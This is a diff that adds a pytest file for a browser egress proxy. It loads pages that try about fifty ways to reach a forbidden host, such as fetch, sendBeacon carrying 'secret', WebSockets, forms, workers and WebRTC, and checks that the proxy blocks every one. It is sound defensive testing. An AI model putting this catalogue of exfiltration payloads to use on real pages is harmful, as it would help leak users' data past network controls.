@@ -1,0 +1,244 @@
+"""A page on an allowed host tries every way out that a browser has. Each works without the proxy; none with it."""
+
+import asyncio
+import socket
+import sys
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager, suppress
+from dataclasses import dataclass
+from typing import Any
+from urllib.parse import quote, unquote
+
+import pytest
+from playwright.async_api import BrowserContext, Error, async_playwright
+
+from pollex.page.policy.browser import LAUNCH_ARGUMENTS, context_options
+from pollex.page.policy.proxy import Proxy
+from pollex.page.policy.rule import Policy
+
+pytestmark = pytest.mark.timeout(400)
+
+OUTSIDE = "127.0.0.2" if sys.platform == "linux" else "127.0.0.1"
+PATIENCE = 15.0
+"""Seconds a way has to get out, or to be refused."""
+SETTLED = 1.0
+"""Seconds to wait for whatever comes after a refusal, or where none can be seen."""
+
+WAYS = {
+    "image": "<img src='http://OUT/x'>",
+    "srcset": "<img srcset='http://OUT/x 1x'>",
+    "svg image": "<svg><image href='http://OUT/x'/></svg>",
+    "script": "<script src='http://OUT/x'></script>",
+    "module": "<script type=module>import('http://OUT/x')</script>",
+    "modulepreload": "<link rel=modulepreload href='http://OUT/x'>",
+    "preload": "<link rel=preload as=image href='http://OUT/x'>",
+    "prefetch": "<link rel=prefetch href='http://OUT/x'>",
+    "preconnect": "<link rel=preconnect href='https://OUT'>",
+    "speculative prefetch": "<script type=speculationrules>"
+    '{"prefetch": [{"urls": ["http://OUT/x"], "eagerness": "immediate"}]}</script>',
+    "stylesheet": "<link rel=stylesheet href='http://OUT/x'>",
+    "css import": "<style>@import 'http://OUT/x'</style>",
+    "css background": "<body style='background: url(http://OUT/x)'>",
+    "font": "<style>@font-face {font-family: f; src: url(http://OUT/x)} p {font-family: f}</style><p>text",
+    "video": "<video src='http://OUT/x' autoplay></video>",
+    "audio": "<audio src='http://OUT/x' autoplay></audio>",
+    "track": "<video><track default src='http://OUT/x'></video><script>"
+    "document.querySelector('video').crossOrigin = ''; document.querySelector('track').track.mode = 'showing'</script>",
+    "poster": "<video poster='http://OUT/x'></video>",
+    "object": "<object data='http://OUT/x'></object>",
+    "embed": "<embed src='http://OUT/x'>",
+    "iframe": "<iframe src='http://OUT/x'></iframe>",
+    "sandboxed iframe": "<iframe sandbox='allow-scripts' srcdoc='<img src=http://OUT/x>'></iframe>",
+    "fetch": "<script>fetch('http://OUT/x', {mode: 'no-cors'})</script>",
+    "fetch with preflight": "<script>fetch('http://OUT/x', {method: 'PUT', body: 'secret'})</script>",
+    "fetch over TLS": "<script>fetch('https://OUT/x', {mode: 'no-cors'})</script>",
+    "fetch kept alive": "<script>fetch('http://OUT/x', {method: 'POST', mode: 'no-cors', keepalive: true})</script>",
+    "fetch later": "<script>window.fetchLater ? fetchLater('https://OUT/x', {activateAfter: 0}) : 0</script>",
+    "xhr": "<script>const x = new XMLHttpRequest; x.open('GET', 'http://OUT/x'); x.send()</script>",
+    "beacon": "<script>navigator.sendBeacon('http://OUT/x', 'secret')</script>",
+    "event source": "<script>new EventSource('http://OUT/x')</script>",
+    "websocket": "<script>new WebSocket('ws://OUT/x')</script>",
+    "websocket over TLS": "<script>new WebSocket('wss://OUT/x')</script>",
+    "redirect chain": "<img src='/hop?/hop?http://OUT/x'>",
+    "redirected fetch": "<script>fetch('/hop?http://OUT/x', {mode: 'no-cors'})</script>",
+    "navigation": "<script>location = 'http://OUT/x'</script>",
+    "redirected navigation": "<script>location = '/hop?http://OUT/x'</script>",
+    "meta refresh": "<meta http-equiv=refresh content='0; url=http://OUT/x'>",
+    "form": "<form method=post action='http://OUT/x'><input name=a value=b></form>"
+    "<script>document.forms[0].submit()</script>",
+    "window.open": "<script>window.open('http://OUT/x')</script>",
+    "download": "<a download href='http://OUT/x'>d</a><script>document.querySelector('a').click()</script>",
+    "ping": "<a ping='http://OUT/x' href='#here'>p</a><script>document.querySelector('a').click()</script>",
+    "worker": "<script>new Worker('/fetch.js?http://OUT/x')</script>",
+    "worker's websocket": "<script>new Worker('/socket.js?ws://OUT/x')</script>",
+    "worker's import": "<script>new Worker('/import.js?http://OUT/x')</script>",
+    "shared worker": "<script>new SharedWorker('/fetch.js?http://OUT/x')</script>",
+    "service worker": "<script>navigator.serviceWorker.register('/fetch.js?http://OUT/x', {scope: '/OUT/'})</script>",
+    "service worker's websocket": "<script>navigator.serviceWorker.register('/socket.js?ws://OUT/x', "
+    "{scope: '/OUT/'})</script>",
+    "worklet": "<script>CSS.paintWorklet.addModule('http://OUT/x')</script>",
+    "policy report": "<meta name=report content='OUT'><script>eval</script><img src='/blocked'>",
+    "STUN": "RTC:stun:OUT",
+    "TURN over UDP": "RTC:turn:OUT",
+    "TURN over TCP": "RTC:turn:OUT?transport=tcp",
+    "TURN over TLS": "RTC:turns:OUT?transport=tcp",
+    "WebTransport": "<script>new WebTransport('https://OUT/x').ready.catch(() => 0)</script>",
+}
+UNSEEN = {"STUN", "TURN over UDP", "WebTransport", "speculative prefetch"}
+"""Ways that the browser itself gives up where there is a proxy, so that the proxy hears nothing of them."""
+PROFILE_ONLY = {"preconnect", "speculative prefetch"}
+"""Ways that Chromium has in a profile on disk only, and in the tab in front."""
+
+RTC = """<script>
+const peer = new RTCPeerConnection({iceServers: [{urls: 'URL', username: 'u', credential: 'c'}]});
+peer.createDataChannel('d');
+peer.createOffer().then(offer => peer.setLocalDescription(offer));
+</script>"""
+SCRIPTS = {
+    "/fetch.js": "fetch(location.search.slice(1), {mode: 'no-cors'})",
+    "/socket.js": "new WebSocket(location.search.slice(1))",
+    "/import.js": "importScripts(location.search.slice(1))",
+}
+
+
+Arrivals = dict[str, int | None]
+
+
+@dataclass
+class Outside:
+    """A server that no page may reach: counts connections and datagrams on one port."""
+
+    port: int = 0
+    arrived: int = 0
+
+
+class Datagrams(asyncio.DatagramProtocol):
+    def __init__(self, outside: Outside) -> None:
+        self.outside = outside
+
+    def datagram_received(self, data: bytes, addr: object) -> None:
+        self.outside.arrived += 1
+
+
+class Stream(asyncio.Protocol):
+    def __init__(self, outside: Outside) -> None:
+        self.outside = outside
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        self.outside.arrived += 1
+
+
+@asynccontextmanager
+async def outside() -> AsyncIterator[Outside]:
+    loop = asyncio.get_running_loop()
+    each = Outside()
+    server = await loop.create_server(lambda: Stream(each), OUTSIDE, 0, family=socket.AF_INET)
+    each.port = server.sockets[0].getsockname()[1]
+    datagrams, _ = await loop.create_datagram_endpoint(lambda: Datagrams(each), (OUTSIDE, each.port))
+    try:
+        yield each
+    finally:
+        datagrams.close()
+        server.close()
+
+
+class Inside(asyncio.Protocol):
+    """The allowed host: the pages above, scripts for workers, and redirects."""
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        assert isinstance(transport, asyncio.Transport)
+        self.transport = transport
+
+    def data_received(self, data: bytes) -> None:
+        target = data.split(b" ", 2)[1].decode()
+        path, _, query = target.partition("?")
+        fields, kind, body = "", "text/html", ""
+        if path == "/hop":
+            fields = f"Location: {query}\r\n"
+        elif path in SCRIPTS:
+            kind, body = "text/javascript", SCRIPTS[path]
+        elif path.startswith("/then/"):
+            body = WAYS[unquote(path.removeprefix("/then/"))].replace("OUT", query)
+        if body.startswith("RTC:"):
+            body = RTC.replace("URL", body.removeprefix("RTC:"))
+        if path == f"/then/{quote('policy report')}":
+            fields = f"Content-Security-Policy: img-src 'none'; report-uri http://{query}/x\r\n"
+        status = "302 Found" if path == "/hop" else "200 OK"
+        head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{fields}\r\n"
+        self.transport.write((head + body).encode())
+
+
+async def attempt(context: BrowserContext, way: str, inside: int, proxy: Proxy | None, unseen: set[str]) -> int | None:
+    """How often a way got out; with a proxy, None if it was not even tried."""
+
+    def refused(port: int) -> bool:
+        return proxy is not None and any(refusal.port == port for refusal in proxy.refusals)
+
+    async with outside() as out:
+        page = await context.new_page()
+        address = f"http://127.0.0.1:{inside}/then/{quote(way)}?{OUTSIDE}:{out.port}"
+        with suppress(Error):  # a navigation that is cut short by the next one, or refused
+            await page.goto(address, wait_until="commit")
+        for _ in range(int(PATIENCE / 0.05)):
+            if out.arrived or refused(out.port) or (proxy and way in unseen):
+                break
+            await asyncio.sleep(0.05)
+        if proxy:
+            await asyncio.sleep(SETTLED)
+        tried = not proxy or refused(out.port) or way in unseen
+        await page.close()
+        return out.arrived if tried else None
+
+
+async def attempt_all(context: BrowserContext, inside: int, proxy: Proxy | None, unseen: set[str]) -> Arrivals:
+    few = asyncio.Semaphore(6)
+    found: Arrivals = {}
+
+    async def one(way: str) -> None:
+        async with few:
+            found[way] = await attempt(context, way, inside, proxy, unseen)
+
+    for way in sorted(PROFILE_ONLY):
+        await one(way)
+    await asyncio.gather(*(one(way) for way in WAYS if way not in PROFILE_ONLY))
+    return found
+
+
+@pytest.fixture(scope="module")
+def arrivals(launch_options: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Arrivals]:
+    """What arrived outside, way by way: without a proxy, and past it in a profile of its own or in a context."""
+
+    async def all_three() -> dict[str, Arrivals]:
+        server = await asyncio.get_running_loop().create_server(Inside, "127.0.0.1", 0)
+        inside = server.sockets[0].getsockname()[1]
+        guarded = {**launch_options, "args": [*launch_options["args"], *LAUNCH_ARGUMENTS]}
+        folders = [tmp_path_factory.mktemp("profile") for _ in range(2)]
+        async with async_playwright() as playwright, Proxy(Policy((f"127.0.0.1:{inside}",))) as proxy:
+            launch = playwright.chromium.launch_persistent_context
+            async with await launch(folders[0], **launch_options, ignore_https_errors=True) as context:
+                direct = await attempt_all(context, inside, None, set())
+            options: dict[str, Any] = {**context_options(proxy.address), "ignore_https_errors": True}
+            async with await launch(folders[1], **guarded, **options) as context:
+                profile = await attempt_all(context, inside, proxy, UNSEEN)
+            async with await playwright.chromium.launch(**guarded) as browser:
+                context = await browser.new_context(**options)
+                later = await attempt_all(context, inside, proxy, UNSEEN | PROFILE_ONLY)
+        server.close()
+        return {"direct": direct, "profile": profile, "context": later}
+
+    return asyncio.run(all_three())
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_a_page_gets_out_without_the_proxy(arrivals: dict[str, Arrivals], way: str) -> None:
+    assert arrivals["direct"][way]
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_a_page_does_not_get_out_of_a_profile(arrivals: dict[str, Arrivals], way: str) -> None:
+    assert arrivals["profile"][way] == 0
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_a_page_does_not_get_out_of_a_context(arrivals: dict[str, Arrivals], way: str) -> None:
+    assert arrivals["context"][way] == 0
